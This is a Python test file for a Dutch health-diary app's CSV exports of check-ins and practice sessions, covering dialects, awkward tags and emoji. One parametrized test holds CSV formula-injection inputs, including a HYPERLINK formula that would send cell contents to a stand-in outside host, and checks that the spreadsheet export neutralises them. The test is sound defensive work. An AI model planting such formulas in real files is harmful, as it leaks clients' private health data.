"""The diary and practice-log CSV files, read back with Python's csv module: equal to what is
stored, in the plain and the Dutch-spreadsheet dialect, tags with commas, quotes, semicolons and
line breaks, notes with emoji."""

import csv
import io
from datetime import date

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from lijfwijs.diary.models import REGIONS, CheckIn
from lijfwijs.exercises.models import PracticeSession
from lijfwijs.exports import csvs

from .history import AWKWARD_TAGS, make_history

LAST = date(2026, 12, 1)


def read(data: bytes, dutch: bool) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff") is dutch
    rows = list(
        csv.reader(
            io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";" if dutch else ","
        )
    )
    header, body = rows[0], rows[1:]
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def history(anna):
    return make_history(anna, days=40, last=LAST)


def test_plain_diary_is_the_stored_diary(anna, history):
    data = csvs.diary_csv(anna, dutch=False)
    assert b"\r\n" in data  # RFC 4180 line ends
    rows = read(data, dutch=False)
    stored = list(
        CheckIn.objects.for_user(anna).order_by("at", "pk").prefetch_related("tags", "exercises")
    )
    assert len(rows) == len(stored) == history["checkins"]
    for row, checkin in zip(rows, stored, strict=True):
        assert row["id"] == str(checkin.pk)
        assert row["day"] == checkin.day.isoformat()
        assert row["at"].startswith(checkin.day.isoformat() + "T")
        assert int(row["pain"]) == checkin.pain
        for region in REGIONS:
            expected = checkin.region_pain.get(region)
            assert row[f"pain_{region}"] == ("" if expected is None else str(expected))
        assert row["state"] == checkin.state
        assert row["energy"] == ("" if checkin.energy is None else str(checkin.energy))
        assert sorted(csvs.split_list(row["tags"])) == sorted(t.name_nl for t in checkin.tags.all())
        assert row["note"] == checkin.note
    tagged = {name for row in rows for name in csvs.split_list(row["tags"])}
    assert tagged == set(AWKWARD_TAGS)  # commas, quotes, ";" and a line break survived
    assert any("😴" in row["note"] for row in rows)


def test_dutch_diary_has_semicolons_a_bom_and_dutch_headers(anna, history):
    with translation.override("nl"):
        data = csvs.diary_csv(anna, dutch=True)
    assert data.startswith("\ufeff".encode())
    header = data.decode("utf-8").removeprefix("\ufeff").split("\r\n", 1)[0]
    assert header.startswith("id;tijdstip;datum;pijn (0-10);pijn: Onderrug;")
    rows = read(data, dutch=True)
    assert len(rows) == history["checkins"]
    names = {name for row in rows for name in csvs.split_list(row["tags"])}
    assert names == set(AWKWARD_TAGS)


@pytest.mark.parametrize("dutch", [False, True])
def test_practice_log(anna, history, dutch):
    with translation.override("nl"):
        rows = read(csvs.practice_csv(anna, dutch=dutch), dutch=dutch)
    stored = list(
        PracticeSession.objects.for_user(anna)
        .order_by("started_at", "pk")
        .select_related("exercise")
    )
    assert len(rows) == len(stored) == history["sessions"]
    minutes = "minuten" if dutch else "minutes"
    for row, session in zip(rows, stored, strict=True):
        values = list(row.values())
        assert values[0] == str(session.pk)
        assert values[3] == session.exercise.slug
        assert int(values[5]) == session.seconds
        expected = f"{session.seconds / 60:.1f}"
        assert row[minutes] == (expected.replace(".", ",") if dutch else expected)
        assert values[8] == str(session.tension_before)
        assert values[9] == str(session.tension_after)


def test_without_shared_notes_the_notes_stay_out(anna, history):
    rows = read(csvs.diary_csv(anna, dutch=False, with_notes=False), dutch=False)
    assert all(row["note"] == "" for row in rows)
    assert any(row["tags"] for row in rows)


def test_an_empty_diary_is_a_header_only(bram):
    rows = list(csv.reader(io.StringIO(csvs.diary_csv(bram, dutch=False).decode())))
    assert rows == [[key for key, _label in csvs.diary_columns()]]


names = st.lists(st.text(min_size=1, max_size=20), max_size=5)


@given(names)
def test_joined_names_split_back(names_):
    assert csvs.split_list(csvs.join_list(names_)) == names_


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://elders.example/?"&A2)', "-1+2", "+31 6", "@SUM(A1)"]
)
def test_the_spreadsheet_file_runs_no_formula_the_plain_file_keeps_the_text(anna, text):
    """A note or tag that starts like a formula: a spreadsheet would run it (the practitioner
    opens the file of the client's diary), so the Dutch-spreadsheet file writes it as text."""
    from lijfwijs.diary.models import Tag

    checkin = CheckIn.objects.create(
        user=anna, at="2026-12-01T09:00:00+00:00", day=LAST, pain=4, note=text
    )
    checkin.tags.add(Tag.objects.create(user=anna, name_nl=text, kind=Tag.Kind.TRIGGER))
    with translation.override("nl"):
        [spreadsheet] = read(csvs.diary_csv(anna, dutch=True), dutch=True)
    assert spreadsheet["notitie"] == "'" + text and spreadsheet["tags"] == "'" + text
    [plain] = read(csvs.diary_csv(anna, dutch=False), dutch=False)
    assert plain["note"] == text and plain["tags"] == text
